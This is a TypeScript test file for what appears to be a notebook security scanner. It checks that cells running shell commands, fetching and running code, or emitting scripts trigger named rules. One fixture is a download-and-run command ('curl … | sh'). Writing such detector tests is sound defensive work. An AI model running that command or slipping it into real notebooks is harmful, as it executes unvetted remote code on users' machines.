import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { lookAtFile } from '../../../../test/support/look-at-file.ts';

const code = (source: string | string[], outputs: object[] = []) => ({ cell_type: 'code', source, outputs });

describe('a notebook', () => {
  const cases: Readonly<Record<string, readonly [cells: unknown, rules: readonly string[]]>> = {
    'of plain code passes': [[code('import numpy as np')], []],
    'that runs commands': [[code(['# first\n', '!pip install x'])], ['notebook.shell']],
    'that runs commands by Python': [[code('import os; os.system("ls")')], ['notebook.shell']],
    'that fetches and runs': [[code('!curl http://example.org/x | sh')], ['notebook.download-and-run']],
    'that tells of commands': [[{ cell_type: 'markdown', source: '!ls' }], []],
    'with a script in an output': [
      [code('x', [{ data: { 'text/html': ['<p>', '<script>x</script>'] } }])],
      ['notebook.script-output'],
    ],
    'with an output that is a script': [
      [code('x', [{ data: { 'application/javascript': 'x' } }])],
      ['notebook.script-output'],
    ],
    'with pictures': [[code('x', [{ data: { 'image/png': 'aGk=' } }, { text: '<script>' }])], []],
    'whose cells are none': [{ 0: code('!ls') }, []],
    'with cells of other types': [[null, 7, 'text', []], []],
  };
  for (const [what, [cells, rules]] of Object.entries(cases))
    test(what, async () =>
      assert.deepEqual((await lookAtFile('n.ipynb', JSON.stringify({ cells }))).rules, rules),
    );
});
